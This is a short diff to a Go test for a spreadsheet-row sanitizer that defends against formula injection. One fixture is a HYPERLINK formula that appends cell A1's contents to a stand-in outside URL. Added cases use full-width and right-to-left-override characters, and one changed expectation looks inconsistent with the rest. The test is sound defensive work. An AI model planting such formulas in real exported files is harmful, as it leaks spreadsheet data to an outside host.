@@ -102,7 +102,7 @@ func TestRow_Hooks(t *testing.T) {
 func TestRow_Harmless(t *testing.T) {
 	for text, want := range map[string]string{
 		`=HYPERLINK("https://example.com/?"&A1,"x")`: `'=HYPERLINK("https://example.com/?"&A1,"x")`,
-		"+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": "'\r=1",
+		"+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": `\u000d=1`, "＝1": "'＝1", "＠A": "'＠A", "\u202e=1": `\u202e=1`,
 		"a=b": "a=b", "'=1": "'=1", "one\r\ntwo": "one\ntwo", // as this reader reads them
 	} {
 		r := aRun(t)
